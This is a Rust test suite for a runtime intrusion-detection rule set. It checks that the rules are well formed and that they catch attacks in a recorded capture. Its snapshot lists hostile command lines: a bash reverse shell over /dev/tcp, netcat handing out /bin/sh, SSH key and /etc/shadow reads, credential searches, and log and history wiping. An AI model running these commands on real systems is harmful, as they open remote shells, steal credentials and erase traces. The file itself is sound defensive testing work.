//! The rules under `rules/`: they are well formed, load without a warning, and find what the bundled capture holds.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};

use saker::event::id;
use serde_yaml::Value as Yaml;

use crate::scene::{Scene, Value, process};
use crate::{saker, text};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().expect("the agent lies in the repository")
}

/// Folder and file of each shipped rule file, in the order of their names.
fn rule_files() -> Vec<(String, PathBuf)> {
    let mut files = Vec::new();
    for tactic in fs::read_dir(root().join("rules")).expect("rules/ is there").flatten() {
        // A folder with its own shared macros is a pack by itself, with tests of its own.
        if !tactic.path().is_dir() || tactic.path().join("_shared.yaml").exists() {
            continue;
        }
        let name = tactic.file_name().into_string().expect("a plain name");
        for file in fs::read_dir(tactic.path()).expect("a folder for each tactic").flatten() {
            if !saker::rules::is_test_file(&file.path()) {
                files.push((name.clone(), file.path()));
            }
        }
    }
    files.sort();
    files
}

/// The lists and macros that all files share.
fn shared() -> PathBuf {
    root().join("rules/_shared.yaml")
}

fn read(path: &Path) -> Yaml {
    serde_yaml::from_str(&fs::read_to_string(path).expect("a text file")).expect("YAML")
}

/// The items of a rule file that have this key, with its value.
fn items<'y>(document: &'y Yaml, kind: &str) -> Vec<(&'y str, &'y Yaml)> {
    let items = document.as_sequence().expect("a rule file is a sequence");
    items.iter().filter_map(|item| Some((item.get(kind)?.as_str()?, item))).collect()
}

fn is_technique(tag: &str) -> bool {
    let digits = |text: &str, count| text.len() == count && text.bytes().all(|byte| byte.is_ascii_digit());
    let Some(number) = tag.strip_prefix('T') else { return false };
    match number.split_once('.') {
        None => digits(number, 4),
        Some((technique, sub)) => digits(technique, 4) && digits(sub, 3),
    }
}

#[test]
fn each_rule_says_where_it_belongs() {
    let mut faults = Vec::new();
    for (folder, path) in rule_files() {
        let document = read(&path);
        let rules = items(&document, "rule");
        if rules.is_empty() {
            faults.push(format!("{}: no rule", path.display()));
        }
        for (name, rule) in rules {
            let tags = rule.get("tags").and_then(Yaml::as_sequence).into_iter().flatten();
            let tags: Vec<&str> = tags.filter_map(Yaml::as_str).collect();
            let tactic = format!("mitre_{}", folder.replace('-', "_"));
            let maturity = ["maturity_stable", "maturity_incubating", "maturity_sandbox"];
            let needs = [
                ("its folder's tactic", tags.contains(&tactic.as_str())),
                ("one maturity", tags.iter().filter(|tag| maturity.contains(tag)).count() == 1),
                ("an ATT&CK technique", tags.iter().any(|tag| is_technique(tag))),
                ("host or container", tags.contains(&"host") || tags.contains(&"container")),
            ];
            let missing = needs.iter().filter(|(_, met)| !met);
            faults.extend(missing.map(|(what, _)| format!("{name}: a tag for {what} is missing")));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Attacks that others try their rules on; each is one of ours as well.
#[test]
fn known_attacks_are_found() {
    let tests = root().join("tests/data/known_attacks.test.yaml");
    let out = saker(&["test", tests.to_str().expect("a plain path")]);
    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
}

/// Each rule fires on two attacks and keeps silent at two look-alikes, and few changes of a rule escape its tests.
#[test]
fn each_rule_is_proved() {
    let rules = root().join("rules");
    let rules = rules.to_str().expect("a plain path");
    let out = saker(&["test", "--mutate", "--min-noticed", "90", "--format", "json", rules]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("a JSON document");
    let list = |value: &serde_json::Value| value.as_array().cloned().unwrap_or_default();
    let mut proofs: BTreeMap<String, [usize; 2]> = BTreeMap::new();
    let mut failed = Vec::new();
    for file in list(&report["files"]) {
        assert_eq!(file["error"], serde_json::Value::Null);
        for test in list(&file["tests"]) {
            let rule = test["rule"].as_str().unwrap_or_default().to_owned();
            if test["passed"] == true {
                proofs.entry(rule).or_default()[usize::from(test["expect"] == "silence")] += 1;
            } else {
                failed.push(format!("{rule}: {} {}", test["case"], test["message"]));
            }
        }
    }
    for (_, path) in rule_files() {
        for (name, _) in items(&read(&path), "rule") {
            let [attacks, honest] = proofs.get(name).copied().unwrap_or_default();
            if attacks < 2 || honest < 2 {
                failed.push(format!("{name}: {attacks} attacks, {honest} look-alikes"));
            }
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    assert_eq!(out.status.code(), Some(0), "only {} % of changes are noticed", report["mutation"]["percent"]);
}

/// A second definition would silently change the rules of the file before.
#[test]
fn no_name_is_defined_twice() {
    let mut seen = BTreeSet::new();
    for path in rule_files().into_iter().map(|(_, path)| path).chain([shared()]) {
        let document = read(&path);
        for kind in ["rule", "macro", "list"] {
            for (name, _) in items(&document, kind) {
                assert!(seen.insert((kind, name.to_owned())), "{kind} {name} again in {}", path.display());
            }
        }
    }
}

/// What nobody uses is not shared, and the check of one file cannot tell.
#[test]
fn what_is_shared_is_used_by_two_files() {
    let texts: Vec<String> =
        rule_files().iter().map(|(_, path)| fs::read_to_string(path).expect("a text file")).collect();
    let names_it = |text: &str, name: &str| {
        let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
        text.split(|c| !word(c)).any(|part| part == name)
    };
    let document = read(&shared());
    let own = fs::read_to_string(shared()).expect("a text file");
    for kind in ["macro", "list"] {
        for (name, _) in items(&document, kind) {
            let users = texts.iter().filter(|text| names_it(text, name)).count();
            let within =
                own.lines().any(|line| !line.contains(&format!("{kind}: {name}")) && names_it(line, name));
            assert!(users >= 2 || within, "{kind} {name} is used by {users} files");
        }
    }
}

#[test]
fn they_load_without_a_warning() {
    let each = rule_files().into_iter().map(|(_, path)| path);
    let folders: BTreeSet<PathBuf> =
        rule_files().iter().filter_map(|(_, path)| Some(path.parent()?.into())).collect();
    for path in each.chain(folders).chain([root().join("rules")]) {
        let path = path.to_str().expect("a plain path");
        let out = saker(&["check", path]);
        let report = text(&out.stdout);
        assert_eq!(out.status.code(), Some(0), "{report}{}", text(&out.stderr));
        assert!(report.lines().all(|line| line.ends_with(": Ok")), "{report}");
        assert_eq!(text(&out.stderr), "", "{path}");
    }
}

#[test]
fn they_find_the_attack_in_the_bundled_capture() {
    let [rules, capture] = ["rules", "tests/data/vm_small.scap.gz"].map(|path| root().join(path));
    let [rules, capture] = [&rules, &capture].map(|path| path.to_str().expect("a plain path"));
    let out = saker(&["replay", "-o", "json_output=true", "-o", "rule_matching=all", "-r", rules, capture]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));

    let mut alerts: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for line in text(&out.stdout).lines() {
        let alert: serde_json::Value = serde_json::from_str(line).expect("an alert is a JSON object");
        let field = |name: &str| alert[name].as_str().unwrap_or_default().to_owned();
        let command = alert["output_fields"]["proc.cmdline"].as_str().unwrap_or_default();
        alerts
            .entry(format!("{} ({})", field("rule"), field("priority")))
            .or_default()
            .push(command.to_owned());
    }
    let mut listing = String::new();
    for (rule, mut commands) in alerts {
        listing.push_str(&format!("{rule}\n"));
        commands.dedup();
        commands.iter().for_each(|command| listing.push_str(&format!("  {command}\n")));
    }
    insta::assert_snapshot!(listing, @"
    Account created or changed (Notice)
      useradd evil2
      usermod -aG sudo evil2
      userdel evil2
    Another process taken over with ptrace (Warning)
      evil attach
      strace -o /dev/null /bin/true
      strace -o /dev/null true
    Credentials searched for (Warning)
      grep -r BEGIN RSA PRIVATE KEY /root
      find /root -name id_rsa
      find / -maxdepth 2 -name .aws
      find /root -name id_dsa
      find / -maxdepth 1 -name id_rsa
    Data destroyed in bulk (Error)
      shred -u /var/log/auth.log
    Environment of another process read (Warning)
      cat /proc/1/environ
    File put into an SSH directory (Notice)
      touch /root/.ssh/id_rsa
    Job or service planted (Warning)
      bash /mnt/w_small.sh
    Kernel helper path changed (Critical)
      bash /mnt/w_small.sh
    Link made to password hashes (Warning)
      ln -s /etc/shadow /tmp/sh
      ln -s /etc /tmp/etcl
      ln -s /etc/shadow /tmp/csh
    Log emptied or removed (Warning)
      bash /mnt/w_small.sh
      shred -u /var/log/auth.log
    Netcat hands a connection to a program (Warning)
      nc -e /bin/sh 127.0.0.1 1
    Packet socket opened (Notice)
      evil packet
      tcpdump -c 1 -i lo
      evil packet
      tcpdump -c 1 -i nosuch
    Page faults handled by an unprivileged program (Warning)
      evil ufd
    Password hashes read (Warning)
      cat /etc/shadow
      cat /etc/../etc/../etc/shadow
      cat /etc/shadow
    Preloaded library set (Critical)
      touch /etc/ld.so.preload
    Process enters other namespaces (Notice)
      nsenter -t 1 -m true
    Process keeps debuggers away (Notice)
      evil traceme
    Program directory changed (Error)
      bash /mnt/w_small.sh
      mv /usr/bin/evil_bin /usr/bin/evil_bin2
      rm -f /usr/bin/evil_bin2
      mkdir /usr/bin/evildir
      rmdir /usr/bin/evildir
      mkdir /usr/bin/cd1
      rmdir /usr/bin/cd1
    Program run from memory (Critical)
      memfd:payload
    Program run from shared memory (Warning)
      i
      ci
    Reverse shell (Critical)
      evil rev 4445
      bash -c bash -i >& /dev/tcp/127.0.0.1/4446 0>&1
      evil rev 4447
    SSH directory looked through (Notice)
      grep -r BEGIN RSA PRIVATE KEY /root
      find /root -name id_rsa
      find /root -name id_dsa
    SSH login keys changed (Warning)
      bash /mnt/w_small.sh
    SSH private key read (Error)
      cat /root/.ssh/id_rsa
      grep -r BEGIN RSA PRIVATE KEY /root
    Server follows a path out of its directory (Warning)
      cat /etc/../etc/../etc/shadow
    Setuid or setgid bit set (Notice)
      chmod u+s /tmp/x
      chmod 4755 /tmp/x
    Shell connects by itself (Error)
      bash -c bash -i >& /dev/tcp/127.0.0.1/4446 0>&1
    Shell history removed (Warning)
      rm -f /root/.bash_history
    Shell startup file changed (Warning)
      bash /mnt/w_small.sh
    Shell talks to the network (Critical)
      sh -c id; exit
      bash -i
      sh -c id; exit
    Sudo rights changed (Critical)
      bash /mnt/w_small.sh
    System configuration changed (Notice)
      sed -i s/x/x/ /etc/hosts
      bash /mnt/w_small.sh
    ");
}

const CONTAINER: &str =
    "/system.slice/docker-8f6d1c2b3a495867768594a3b2c1d0e0f1e2d3c4b5a69788796a5b4c3d2e1f00.scope";

fn rule_paths() -> Vec<String> {
    rule_files().iter().map(|(_, path)| path.display().to_string()).collect()
}

#[test]
fn a_shell_with_a_terminal_is_told_of_in_a_container_only() {
    let inside = process(200, "/usr/bin/runc", CONTAINER, 34816);
    let silent = process(201, "/usr/bin/runc", CONTAINER, 0);
    let outside = process(202, "/usr/bin/login", "/user.slice", 34816);
    let mut scene = Scene::new(vec![inside.clone(), silent.clone(), outside.clone()]);
    for process in [&silent, &outside, &inside] {
        scene.execve(process, "/bin/bash", &["-l"]);
    }
    assert_eq!(scene.replay(&rule_paths()), ["Terminal opened in a container"]);
}

#[test]
fn a_package_manager_is_told_of_in_a_container_only() {
    let inside = process(200, "/bin/sh", CONTAINER, 0);
    let outside = process(201, "/bin/sh", "/user.slice", 0);
    let mut scene = Scene::new(vec![inside.clone(), outside.clone()]);
    for process in [&outside, &inside] {
        scene.execve(process, "/sbin/apk", &["add", "nmap"]);
    }
    assert_eq!(scene.replay(&rule_paths()), ["Software installed in a running container"]);
}

#[test]
fn the_metadata_service_is_told_of_in_a_container_only() {
    let inside = process(200, "/usr/bin/curl", CONTAINER, 0);
    let outside = process(201, "/usr/bin/curl", "/system.slice/cloud-init.service", 0);
    let mut scene = Scene::new(vec![inside.clone(), outside.clone()]);
    let tuple = [2, 10, 0, 0, 2, 0x34, 0x12, 169, 254, 169, 254, 80, 0];
    for process in [&outside, &inside] {
        let socket = [("fd", Value::Number(3)), ("domain", Value::Number(2)), ("type", Value::Number(1))];
        scene.event(process.tid, id::SOCKET_SOCKET_X, &socket);
        let connect =
            [("fd", Value::Number(3)), ("tuple", Value::Bytes(&tuple)), ("addr", Value::Bytes(&tuple[7..]))];
        scene.event(process.tid, id::SOCKET_CONNECT_X, &connect);
    }
    assert_eq!(scene.replay(&rule_paths()), ["Cloud metadata service contacted from a container"]);
}

#[test]
fn a_kernel_module_is_told_of_unless_the_system_loads_it() {
    let modprobe = process(200, "/usr/bin/kmod", "/system.slice/systemd-udevd.service", 0);
    let stranger = process(201, "/tmp/.x/load", "/user.slice", 0);
    let mut scene = Scene::new(vec![modprobe.clone(), stranger.clone()]);
    for process in [&modprobe, &stranger] {
        scene.event(process.tid, id::SYSCALL_FINIT_MODULE_X, &[("fd", Value::Number(3))]);
    }
    // What failed changed nothing.
    scene.event(stranger.tid, id::SYSCALL_FINIT_MODULE_X, &[("res", Value::Number(-1))]);
    assert_eq!(scene.replay(&rule_paths()), ["Kernel module loaded"]);
}

/// Symbolic and hard links are found by where they are put, whatever they lead to.
#[test]
fn links_are_found_where_they_are_put() {
    let stranger = process(200, "/usr/bin/ln", "/user.slice", 0);
    let mut scene = Scene::new(vec![stranger.clone()]);
    for link in
        ["/etc/ld.so.preload", "/etc/sudoers.d/x", "/etc/cron.d/x", "/usr/bin/x", "/root/.bash_history"]
    {
        let symlink = [("target", Value::Text("/dev/null")), ("linkpath", Value::Text(link))];
        scene.event(stranger.tid, id::SYSCALL_SYMLINK_X, &symlink);
    }
    for link in ["/root/.ssh/authorized_keys", "/etc/cron.daily/x"] {
        let hard = [("oldpath", Value::Text("/tmp/x")), ("newpath", Value::Text(link))];
        scene.event(stranger.tid, id::SYSCALL_LINK_2_X, &hard);
    }
    assert_eq!(
        scene.replay(&rule_paths()),
        [
            "Preloaded library set",
            "Sudo rights changed",
            "Job or service planted",
            "Program directory changed",
            "Shell history removed",
            "SSH login keys changed",
            "Job or service planted",
        ]
    );
}
